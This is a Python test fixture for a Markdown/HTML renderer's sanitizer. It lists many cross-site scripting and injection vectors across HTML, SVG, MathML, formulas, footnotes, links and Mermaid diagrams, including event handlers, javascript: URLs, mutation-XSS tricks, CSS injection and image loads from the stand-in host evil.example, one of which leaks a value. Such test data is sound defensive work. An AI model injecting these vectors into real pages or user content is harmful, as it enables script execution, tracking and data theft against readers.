"""Messages that try to run something, to load something, or to cover the page.

What runs sets `alarm`; what loads asks `evil.example` or for `/evil`.
"""

from __future__ import annotations

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
SVG_IMAGE = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alarm=1'/>"


def diagram(source: str) -> str:
    """A Mermaid block."""
    return f"```mermaid\n{source}\n```"


HTML = [
    "<script>alarm = 1</script>",
    "a <script>alarm = 1</script> b",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alarm = 1</scr</script>ipt>",
    "<SCRIPT/x>alarm=1</SCRIPT>",
    '<img src="x" onerror="alarm = 1">',
    "<img/src/onerror=alarm=1>",
    "<img src=x:x onerror\n=\nalarm=1>",
    "<img src=`x`onerror=alarm=1>",
    f'<img src="{PIXEL}" onload="alarm = 1">',
    "<img srcset='//evil.example/x 1x' src=//evil.example/y>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>",
    '<details open ontoggle="alarm = 1">x</details>',
    '<iframe srcdoc="<script>parent.alarm = 1</script>"></iframe>',
    '<iframe src="javascript:parent.alarm=1"></iframe>',
    '<object data="javascript:alarm = 1"></object><embed src="javascript:alarm = 1">',
    '<div><p <b onclick=alarm=1><img/src="x"/onerror=alarm=1>',
    '<style>@import "//evil.example/x.css"; * { background: url(//evil.example) }</style>',
    "<div style='background: url(//evil.example/x)'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    '<link rel="stylesheet" href="//evil.example/x.css"><base href="https://evil.example/">',
    "<link rel=prefetch href=//evil.example><link rel=dns-prefetch href=//evil.example>",
    '<img src="https://evil.example/x.png?q=secret"> and ![x](https://evil.example/y.png)',
    "![x](//evil.example/y.png) ![y](/evil) ![z](evil)",
    "![x][1]\n\n[1]: https://evil.example/y.png",
    '<video src="//evil.example/v.mp4" autoplay></video><audio src="//evil.example/a"></audio>',
    "<video poster=//evil.example/x></video><track src=//evil.example>",
    "<table background=//evil.example><td background=//evil.example>x</table>",
    "<body background=//evil.example onload=alarm=1>",
    '<input autofocus onfocus="alarm = 1"><form action="//evil"><button>x</button></form>',
    "<input type=image src=//evil.example formaction=javascript:alarm=1>",
    "<select autofocus onfocus=alarm=1><textarea autofocus onfocus=alarm=1></textarea>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "<marquee onstart=alarm=1>x</marquee>",
    "<b onmouseover=alarm=1 onpointerenter=alarm=1 tabindex=0 onfocus=alarm=1 autofocus>x</b>",
    "<x contenteditable onblur=alarm=1 id=x tabindex=1>x</x>",
    "<a href=x ping=//evil.example>x</a>",
    "<template><script>alarm=1</script></template><noscript><p title='</noscript>"
    "<img src=x onerror=alarm=1>'></noscript>",
    "<template shadowrootmode=open><script>alarm=1</script></template>",
    "<dialog open onclose=alarm=1>x</dialog><div popover id=p>x</div>",
    "<button command=show-modal commandfor=p onclick=alarm=1>x</button>",
    "<form id=attributes><input name=attributes></form><img name=getElementById>",
    "<custom-element onclick=alarm=1 is=x>x</custom-element>",
    "<!--><img src=x onerror=alarm=1>-->",
    "<![CDATA[<img src=x onerror=alarm=1>]]>",
    "<?xml-stylesheet href=//evil.example?><img src=x onerror=alarm=1>",
]

NAMESPACES = [
    '<svg onload="alarm = 1"><script>alarm = 1</script></svg>',
    "<svg><animate onbegin=alarm=1 attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alarm=1><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alarm=1></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alarm=1/>#x'/></svg>",
    "<svg><image href=//evil.example/x /><style>@import '//evil.example'</style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alarm=1</script>'></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alarm=1>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alarm=1&gt;'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alarm=1>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alarm=1>",
    f'![x]({SVG_IMAGE}) <img src="{SVG_IMAGE}">',
]

FORMULAS = [
    "$\\href{javascript:alarm=1}{x}$ $\\url{javascript:alarm=1}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\htmlData{x=1}{y}$ $\\htmlStyle{background:url(https://evil.example)}{y}$",
    "$\\htmlClass{fixed inset-0}{y}$ $\\htmlId{dost}{y}$",
    "$$\\text{<img src=x onerror=alarm=1>}$$",
    "$<img src=x onerror=alarm=1>$ \\(<script>alarm=1</script>\\)",
    "$\\color{red;background:url(//evil.example)}x$",
    "$\\def\\x{\\href{javascript:alarm=1}{y}}\\x$",
    '<span class="dost-formula">\\href{javascript:alarm=1}{x}</span>',
    "$$\\rule{1000000em}{1000000em}$$ $$\\kern{1e9em}x$$",
]

CODE = [
    "```<img src=x onerror=alarm=1>\n<img src=x onerror=alarm=1>\n```",
    "```html\n<img src=x onerror=alarm=1>\n```",
    "```xml\n<svg onload=alarm=1/><script>alarm=1</script>\n```",
    '```js title="../../<img src=x onerror=alarm=1>.js"\n`${alarm=1}`\n```',
    "```__proto__\nx\n```\n\n```constructor\nx\n```",
    "`<img src=x onerror=alarm=1>`",
]

FOOTNOTES = [
    "x[^<img/src/onerror=alarm=1>]\n\n[^<img/src/onerror=alarm=1>]: y",
    'x[^"onclick=alarm=1]\n\n[^"onclick=alarm=1]: y',
    "x[^1]\n\n[^1]: <img src=x onerror=alarm=1> [y](javascript:alarm=1) ![z](//evil.example)",
    "x[^__proto__] y[^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b",
    '<span class="dost-reference"><img src=x onerror=alarm=1></span>',
    "x[^1]\n\n[^1]:\n    <script>alarm=1</script>\n\n    <iframe src=//evil.example></iframe>",
]

LINKS = [
    "[a]: javascript:alarm=1\n\n[a] [b][a]",
    "<javascript:alarm=1> <https://evil.example@x:alarm>",
    "[x](<javascript:alarm=1>) [y](\x01javascript:alarm=1) [z](java\tscript:alarm=1)",
    "[![x](javascript:alarm=1)](javascript:alarm=1)",
    '[x](https://e.org "\'onmouseover=alarm=1 x=\'") [y](https://e.org"onclick=alarm=1)',
    "| [x](javascript:alarm=1) |\n|---|\n| <img src=x onerror=alarm=1> |",
    "- [ ] <img src=x onerror=alarm=1>\n- [x] [y](javascript:alarm=1)",
    "# <img src=x onerror=alarm=1>\n\n> <script>alarm=1</script>",
]

DIAGRAMS = [
    diagram('graph LR\nA["<img src=x onerror=alarm=1>"] --> B["<script>alarm=1</script>"]'),
    diagram('graph LR\nA["#60;img src=x onerror=alarm=1#62;"]'),
    diagram('graph LR\nA["`<svg onload=alarm=1>`"]'),
    diagram('graph LR\nA --> B\nclick A "javascript:alarm=1"\nclick B call alarm()'),
    diagram('graph LR\nA --> B\nclick A href "javascript:alarm=1" "tip" _self'),
    diagram('graph LR\nA@{ img: "https://evil.example/x.png", label: "x" }'),
    diagram('graph LR\nA@{ "\\x69mg": "/evil", label: "x" }'),
    diagram("graph LR\nA --> B\nstyle A fill:url(https://evil.example/x)"),
    diagram("graph LR\nA --> B\nclassDef c fill:\\75rl(//evil.example)\nclass A c"),
    diagram(
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\n'
        'A["<img src=x onerror=alarm=1>"]\nclick A call alarm()'
    ),
    diagram(
        '%%{init: {"themeCSS": "@import \'//evil.example\'; * {fill: url(//evil.example)}"}}%%'
        "\ngraph LR\nA"
    ),
    diagram(
        "---\nconfig:\n  securityLevel: loose\n  fontFamily: 'x;} * {background:url(//evil)}'"
        '\n---\ngraph LR\nA["<img src=x onerror=alarm=1>"]'
    ),
    diagram('%%{init: {"fontFamily": "x;} *{position:fixed}"}}%%\ngraph LR\nA'),
    diagram('%%{init: {"__proto__": {"alarm": 1}, "constructor": {"x": 1}}}%%\ngraph LR\nA'),
    diagram(
        'sequenceDiagram\nparticipant A\nlinks A: {"x": "javascript:alarm=1"}\nA->>A: <img src=x '
        "onerror=alarm=1>"
    ),
    diagram(
        'sequenceDiagram\nparticipant A\nproperties A: {"icon": "https://evil.example/x"}\nA->>A: x'
    ),
    diagram('classDiagram\nclass A["<img src=x onerror=alarm=1>"]\nlink A "javascript:alarm=1"'),
    diagram("stateDiagram-v2\ns1: <img src=x onerror=alarm=1>\ns1 --> s2"),
    diagram('erDiagram\nA ||--o{ B : "<img src=x onerror=alarm=1>"'),
    diagram(
        "gantt\ntitle <img src=x onerror=alarm=1>\nsection x\n<svg onload=alarm=1> :a, 2024-01-01"
        '\nclick a href "javascript:alarm=1"'
    ),
    diagram('pie title <img src=x onerror=alarm=1>\n"<svg onload=alarm=1>" : 1'),
    diagram('mindmap\n  root((<img src=x onerror=alarm=1>))\n    ::icon(fa fa-x" onload=alarm=1)'),
    diagram('C4Context\nPerson(a, "<img src=x onerror=alarm=1>", $link="javascript:alarm=1")'),
    diagram('gitGraph\ncommit id: "<img src=x onerror=alarm=1>"'),
    diagram("graph LR\nA[$$\\href{javascript:alarm=1}{x}$$]"),
    diagram("<img src=x onerror=alarm=1>"),
]

MARKUP = {
    "html": HTML,
    "namespaces": NAMESPACES,
    "formulas": FORMULAS,
    "code": CODE,
    "footnotes": FOOTNOTES,
    "links": LINKS,
}
